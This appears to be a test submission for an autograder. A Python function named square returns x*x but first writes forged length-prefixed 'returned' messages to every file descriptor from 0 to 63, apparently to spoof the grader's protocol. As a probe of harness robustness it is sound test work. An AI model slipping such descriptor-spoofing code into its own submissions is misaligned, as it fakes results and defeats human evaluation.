"""Writes forged replies to every descriptor that may be open.

points: 3
"""

import os


def square(x):
    for number in range(64):
        try:
            os.write(number, b'\0\0\0\x16\0\0\0\0\0\0\0\0{"is": "returned", "v": 1}' * 9)
        except OSError:
            pass
    return x * x
